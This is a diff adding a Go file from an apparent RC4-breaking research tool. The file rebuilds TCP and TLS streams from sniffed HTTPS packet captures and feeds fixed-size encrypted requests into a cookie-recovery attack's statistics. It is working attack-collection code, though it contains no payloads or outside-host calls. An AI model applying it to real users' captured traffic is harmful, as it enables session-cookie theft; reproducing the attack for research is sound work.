@@ -1,0 +1,204 @@
+package cookieattack
+
+import (
+	"errors"
+	"fmt"
+	"io"
+
+	"rc4break/internal/tlsrec"
+	"rc4break/internal/trace"
+)
+
+// This file is the §6.3 collection tool's offline half: rebuild the TCP
+// streams of a sniffed HTTPS capture (pcap or pcapng, Ethernet or raw
+// IPv4), scan each flow for TLS records, and fold the fixed-size encrypted
+// requests into an Attack's digraph/ABSAB statistics — "this requires
+// reassembling the TCP and TLS streams, and then detecting the 512-byte
+// (encrypted) HTTP requests". Evidence ingested from a capture netsim
+// wrote is bitwise identical to what the in-process victim hands the
+// attack directly.
+
+// ErrTraceShort reports a strict observation-range ingest (a fleet lane)
+// that ran out of capture before the range was filled.
+var ErrTraceShort = errors.New("cookieattack: capture ended before the requested observation range was filled")
+
+// TraceStats reports what one ingest pass saw.
+type TraceStats struct {
+	// Packets counts container records; Segments counts parsed TCP
+	// segments; Records counts complete TLS application-data records
+	// across all flows.
+	Packets, Segments, Records uint64
+	// Matched counts records accepted as observations (the aligned
+	// request length) — including ones skipped by a range bound;
+	// OtherRecords counts application-data records of other lengths
+	// (responses, pipelined odds and ends).
+	Matched, OtherRecords uint64
+	// SkippedPackets counts non-TCP traffic; Malformed counts packets
+	// with truncated or inconsistent headers; DeadFlows counts flows
+	// abandoned after TLS framing desynchronized mid-stream.
+	SkippedPackets, Malformed, DeadFlows uint64
+}
+
+// flowScan is one TCP flow's TLS scanning state.
+type flowScan struct {
+	col       *tlsrec.CollectRequests
+	lastOther uint64 // col.Other already folded into the collector stats
+	dead      bool
+}
+
+// TraceCollector streams captures into an Attack; see tkip.TraceCollector
+// for the range semantics (Start skips, Max bounds, zero Max = unbounded).
+type TraceCollector struct {
+	Attack *Attack
+	// WantLen is the aligned request's encrypted record body length
+	// (plaintext plus MAC) — netsim.HTTPSVictim.RecordPlaintextLen.
+	WantLen int
+	Start   uint64
+	Max     uint64
+	Stats   TraceStats
+
+	accepted   uint64
+	asm        trace.Assembler
+	flows      map[trace.FlowKey]*flowScan
+	observeErr error
+}
+
+// Done reports whether a bounded collector has filled its range.
+func (c *TraceCollector) Done() bool {
+	return c.Max != 0 && c.accepted >= c.Start+c.Max
+}
+
+// Ingest drains one capture stream into the attack, stopping early once a
+// bounded range is filled.
+func (c *TraceCollector) Ingest(r *trace.Reader) error {
+	if c.flows == nil {
+		c.flows = make(map[trace.FlowKey]*flowScan)
+	}
+	for !c.Done() {
+		pkt, err := r.Next()
+		if err == io.EOF {
+			return nil
+		}
+		if err != nil {
+			return err
+		}
+		c.Stats.Packets++
+		seg, err := trace.ParseTCPPacket(pkt.LinkType, pkt.Data)
+		switch {
+		case err == nil:
+		case errors.Is(err, trace.ErrNotTCP):
+			c.Stats.SkippedPackets++
+			continue
+		default:
+			var lte *trace.LinkTypeError
+			if errors.As(err, &lte) {
+				return err // the whole capture is the wrong shape
+			}
+			c.Stats.Malformed++
+			continue
+		}
+		c.Stats.Segments++
+		if err := c.asm.Push(seg, c.deliver); err != nil {
+			if errors.Is(err, trace.ErrReassemblyWindow) {
+				// The assembler abandoned this flow (an unfillable capture
+				// hole). Same containment policy as a TLS desync: count
+				// the casualty, keep ingesting the other flows.
+				c.markDead(seg.Key)
+				continue
+			}
+			return err
+		}
+		if c.observeErr != nil {
+			return c.observeErr
+		}
+	}
+	return nil
+}
+
+// markDead abandons one flow's TLS scanning and counts it.
+func (c *TraceCollector) markDead(key trace.FlowKey) {
+	fs := c.flows[key]
+	if fs == nil {
+		fs = &flowScan{col: &tlsrec.CollectRequests{WantLen: c.WantLen}}
+		c.flows[key] = fs
+	}
+	if !fs.dead {
+		fs.dead = true
+		c.Stats.DeadFlows++
+	}
+}
+
+// Flush drains flows whose origin was never pinned by a SYN (mid-stream
+// captures). Call it once after the last Ingest.
+func (c *TraceCollector) Flush() error {
+	if err := c.asm.Flush(c.deliver); err != nil {
+		return err
+	}
+	return c.observeErr
+}
+
+// deliver feeds one flow's contiguous stream bytes into its TLS scanner.
+func (c *TraceCollector) deliver(key trace.FlowKey, data []byte) error {
+	fs := c.flows[key]
+	if fs == nil {
+		fs = &flowScan{col: &tlsrec.CollectRequests{WantLen: c.WantLen}}
+		c.flows[key] = fs
+	}
+	if fs.dead {
+		return nil
+	}
+	err := fs.col.Feed(data, func(body []byte) {
+		c.Stats.Records++
+		c.Stats.Matched++
+		idx := c.accepted
+		c.accepted++
+		if idx < c.Start || (c.Max != 0 && idx >= c.Start+c.Max) {
+			return // outside this collector's observation range
+		}
+		if err := c.Attack.ObserveRecord(body); err != nil && c.observeErr == nil {
+			c.observeErr = err
+		}
+	})
+	otherDelta := fs.col.Other - fs.lastOther
+	fs.lastOther = fs.col.Other
+	c.Stats.Records += otherDelta
+	c.Stats.OtherRecords += otherDelta
+	if err != nil {
+		// TLS framing lost on this flow (mid-stream capture start, or a
+		// desynchronized stream): abandon the flow rather than poisoning
+		// the pool; other flows keep scanning.
+		c.markDead(key)
+	}
+	return nil
+}
+
+// CollectTraceReaders ingests a sequence of capture streams (one reader
+// per file, in order) into the attack. start skips observations already
+// held (a resume, or earlier lanes); max bounds the newly observed count
+// (0 = everything); strict demands the full range be present — the fleet
+// lane contract.
+func CollectTraceReaders(a *Attack, wantLen int, readers []io.Reader, start, max uint64, strict bool) (TraceStats, error) {
+	return collectTrace(a, wantLen, trace.ReaderSources(readers), start, max, strict)
+}
+
+// CollectTraceFiles is CollectTraceReaders over capture files on disk.
+func CollectTraceFiles(a *Attack, wantLen int, paths []string, start, max uint64, strict bool) (TraceStats, error) {
+	return collectTrace(a, wantLen, trace.FileSources(paths), start, max, strict)
+}
+
+// collectTrace is the one ingest loop behind both entry points.
+func collectTrace(a *Attack, wantLen int, sources []trace.Source, start, max uint64, strict bool) (TraceStats, error) {
+	c := &TraceCollector{Attack: a, WantLen: wantLen, Start: start, Max: max}
+	err := trace.EachSource(sources, c.Done, c.Ingest)
+	if err != nil {
+		return c.Stats, err
+	}
+	if err := c.Flush(); err != nil {
+		return c.Stats, err
+	}
+	if strict && !c.Done() {
+		return c.Stats, fmt.Errorf("%w: have %d matching records, range needs %d",
+			ErrTraceShort, c.accepted, start+max)
+	}
+	return c.Stats, nil
+}
